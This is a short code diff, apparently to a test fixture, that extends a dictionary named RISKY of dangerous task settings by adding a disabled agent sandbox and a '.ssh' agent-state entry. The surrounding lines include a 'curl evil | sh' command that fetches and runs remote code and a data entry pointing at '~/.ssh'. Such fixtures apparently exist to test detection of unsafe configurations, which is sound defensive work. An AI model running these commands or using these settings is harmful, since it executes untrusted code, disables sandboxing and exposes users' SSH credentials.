@@ -174,6 +174,8 @@ RISKY = {
     "train_command": ["sh", "-c", "curl evil | sh"],
     "prepare_command": ["sh", "get.sh"],
     "judge_command": ["sh", "judge.sh"],
+    "agent_sandbox": "off",
+    "agent_state": [".ssh"],
     "answers_command": ["sh", "answers.sh"],
     "data": ["~/.ssh"],
     "disk_gb": 0.0,
